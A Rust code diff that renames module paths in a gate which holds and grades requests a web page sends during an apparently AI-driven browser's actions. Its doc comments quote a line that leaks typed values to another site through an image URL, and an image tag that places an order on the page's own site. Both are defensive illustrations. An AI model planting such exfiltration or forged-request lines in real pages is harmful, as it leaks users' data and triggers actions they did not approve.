@@ -1,7 +1,7 @@
 //! The gate at the wire for the browser's actions: while an action runs
 //! (a click, keys, a select, a tick, typing) and a moment after, every
 //! request the page sends that can change something is held
-//! (`browser::wire`) and graded from what it is (`gate::wire`). Below
+//! (`browser::intercept`) and graded from what it is (`gate::classify::wire`). Below
 //! SUBMIT it goes on without a word (telemetry, an add-to-cart). At SUBMIT
 //! and above it goes only if it is the very request the user approved for
 //! this action (method, destination and every field with its value), or
@@ -13,9 +13,9 @@
 //! headers, and for an order in its address), so a page that forwards what
 //! was typed into it (`new Image().src = "https://elsewhere/?v=" + value`)
 //! sends nothing unasked; and on the page's own site when its address
-//! orders (`<img src=/order?qty=50&confirm=1>`: `gate::wire::read_acts`).
+//! orders (`<img src=/order?qty=50&confirm=1>`: `gate::classify::wire::read_acts`).
 //! A value split over requests to one other site is found joined
-//! (`gate::wire::SentElsewhere`). The values
+//! (`gate::request::SentElsewhere`). The values
 //! the user gave the page's own site in this action (typed, approved) may
 //! go back to that site.
 //!
@@ -42,17 +42,16 @@ use std::time::{Duration, Instant};
 use serde_json::Value;
 
 use super::{BrowserTool, Call};
+use crate::browser::intercept::{Idle, Outgoing, Verdict, WireWatch};
 use crate::browser::page;
 use crate::browser::session::TabHandle;
-use crate::browser::wire::{Idle, Outgoing, Verdict, WireWatch};
 use crate::context::CallContext;
 use crate::error::{Error, ErrorCode, Result};
 use crate::gate::action::{Action, ElementFacts, SecretValue};
 use crate::gate::check::Checked;
 use crate::gate::check::Gate;
-use crate::gate::wire::{
-    SentElsewhere, WireRequest, classify_message, classify_request, classify_third_party, not_given,
-};
+use crate::gate::classify::wire::{classify_message, classify_request, classify_third_party, not_given, read_acts};
+use crate::gate::request::{SentElsewhere, WireRequest};
 use crate::tools::PermissionScope;
 use crate::vocab::origin::same_site;
 
@@ -113,7 +112,7 @@ pub(super) async fn guarded<T>(
     }
     let wire = match kept {
         Some(wire) => wire,
-        None => WireWatch::start(tab, carries_elsewhere).await?,
+        None => tab.watch_wire(carries_elsewhere).await?,
     };
     let (page_url, _) = page::url_and_title(tab).await;
     wire.set_home(&page_url);
@@ -216,7 +215,7 @@ pub(super) async fn watch(call: &Call<'_>, tab: &TabHandle, tool: BrowserTool) {
     if slot.is_some() {
         return;
     }
-    let wire = match WireWatch::start(tab, carries_elsewhere).await {
+    let wire = match tab.watch_wire(carries_elsewhere).await {
         Ok(wire) => wire,
         Err(e) => {
             tracing::debug!("wire: {} runs with its tab unwatched: {}", tool.name(), e.to_wire().message);
@@ -247,7 +246,7 @@ pub(super) async fn late(tab: &TabHandle, tool: BrowserTool) -> Result<()> {
 /// A read worth holding: to another site than the page's (`home`), any
 /// (its address, host name, fragment or headers may carry the user's
 /// data); to the page's own site, one whose address orders
-/// (`gate::wire::read_acts`: `/order?qty=50&confirm=1`). Ordinary loads
+/// (`gate::classify::wire::read_acts`: `/order?qty=50&confirm=1`). Ordinary loads
 /// of the page's own site (documents, images, scripts, reads) go at once.
 fn carries_elsewhere(url: &str, home: &str) -> bool {
     let Ok(u) = url::Url::parse(url) else { return false };
@@ -257,7 +256,7 @@ fn carries_elsewhere(url: &str, home: &str) -> bool {
     if home.is_empty() || !same_site(url, home) {
         return true;
     }
-    crate::gate::wire::read_acts(url).is_some()
+    read_acts(url).is_some()
 }
 
 /// What one action's requests are judged by, during the action and after
@@ -280,7 +279,7 @@ struct Judge {
     /// What was sent to each other site, for values split over requests.
     sent: Mutex<SentElsewhere>,
     /// The person's values typed into the tab's pages (the tab's own).
-    filled: Arc<Mutex<crate::browser::wire::Filled>>,
+    filled: Arc<Mutex<crate::browser::intercept::Filled>>,
 }
 
 impl Judge {
